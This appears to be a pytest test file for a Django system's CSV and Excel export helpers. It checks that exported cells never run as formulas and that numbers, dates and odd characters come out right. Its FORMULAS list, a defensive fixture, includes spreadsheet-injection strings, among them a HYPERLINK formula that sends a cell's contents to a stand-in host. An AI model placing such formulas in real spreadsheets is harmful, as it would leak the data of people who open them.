"""Tables that spreadsheet programs open, and whose cells never make them calculate."""

import csv
import io
from datetime import UTC, date, datetime
from decimal import Decimal
from uuid import UUID

import pytest
from django.utils import timezone
from django.utils.translation import gettext_lazy
from openpyxl import load_workbook

from lms.core.spreadsheets import csv_rows, write_xlsx

FORMULAS = ["=1+1", "+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1", '=HYPERLINK("http://x.example?"&A1)']


def as_csv(header, rows):
    text = "".join(csv_rows(header, rows))
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:], newline="")))


def as_sheet(header, rows):
    return list(load_workbook(io.BytesIO(write_xlsx(header, rows))).active.iter_rows())


def test_a_csv_file_begins_with_a_byte_order_mark_and_its_header():
    assert list(csv_rows(["Name", "Größe"], [["Ada", 3]])) == ["\ufeff", "Name,Größe\r\n", "Ada,3\r\n"]


def test_a_csv_file_is_written_line_by_line_and_not_before_it_is_read():
    asked = []

    def rows():
        for number in range(3):
            asked.append(number)
            yield [number]

    lines = csv_rows(["n"], rows())
    assert [next(lines), next(lines), next(lines)] == ["\ufeff", "n\r\n", "0\r\n"]

    assert asked == [0]


@pytest.mark.parametrize("text", FORMULAS)
def test_text_that_would_be_a_formula_gets_an_apostrophe_in_csv(text):
    assert as_csv(["=header"], [[text]]) == [["'=header"], ["'" + text]]


@pytest.mark.parametrize(
    "text", ["Ada", "a=b", " =1+1", "5-3", "", "Søren", "two\nlines", 'say "hello", twice']
)
def test_other_text_stays_as_it_is_in_csv(text):
    assert as_csv(["h"], [[text, "end"]]) == [["h"], [text, "end"]]


def test_numbers_and_days_are_what_they_are_in_csv():
    row = [-5, 0.25, Decimal("1.10"), date(2026, 11, 20), None, True, UUID(int=1), gettext_lazy("word")]

    assert as_csv(["h"], [row])[1] == [
        "-5",
        "0.25",
        "1.10",
        "2026-11-20",
        "",
        "True",
        "00000000-0000-0000-0000-000000000001",
        "word",
    ]


@pytest.mark.parametrize("text", [*(text for text in FORMULAS if "\r" not in text), "#N/A", "TRUE", "007"])
def test_text_is_never_anything_but_text_in_a_workbook(text):
    [[header], [cell]] = as_sheet(["=header"], [[text]])

    assert (header.data_type, header.value) == ("s", "=header")
    assert (cell.data_type, cell.value) == ("s", text)


def test_numbers_and_days_are_what_they_are_in_a_workbook():
    moment = datetime(2026, 11, 20, 12, 30, 15, 999, tzinfo=UTC)
    with timezone.override("Europe/Lisbon"):
        cells = as_sheet(["h"], [[-5, 0.25, Decimal("1.10"), date(2026, 11, 20), None, moment]])[1]

    assert [cell.data_type for cell in cells] == ["n", "n", "n", "d", "n", "d"]
    assert [cell.value for cell in cells] == [
        -5,
        0.25,
        1.1,
        datetime(2026, 11, 20),  # noqa: DTZ001  the library reads days as moments without a zone
        None,
        datetime(2026, 11, 20, 12, 30, 15),  # noqa: DTZ001
    ]


def test_signs_that_a_workbook_cannot_hold_are_left_out_and_long_text_is_cut():
    [_, [control, long]] = as_sheet(["h"], [["a\x00b\x1bc", "x" * 40_000]])

    assert control.value == "abc"
    assert len(long.value) == 32_767
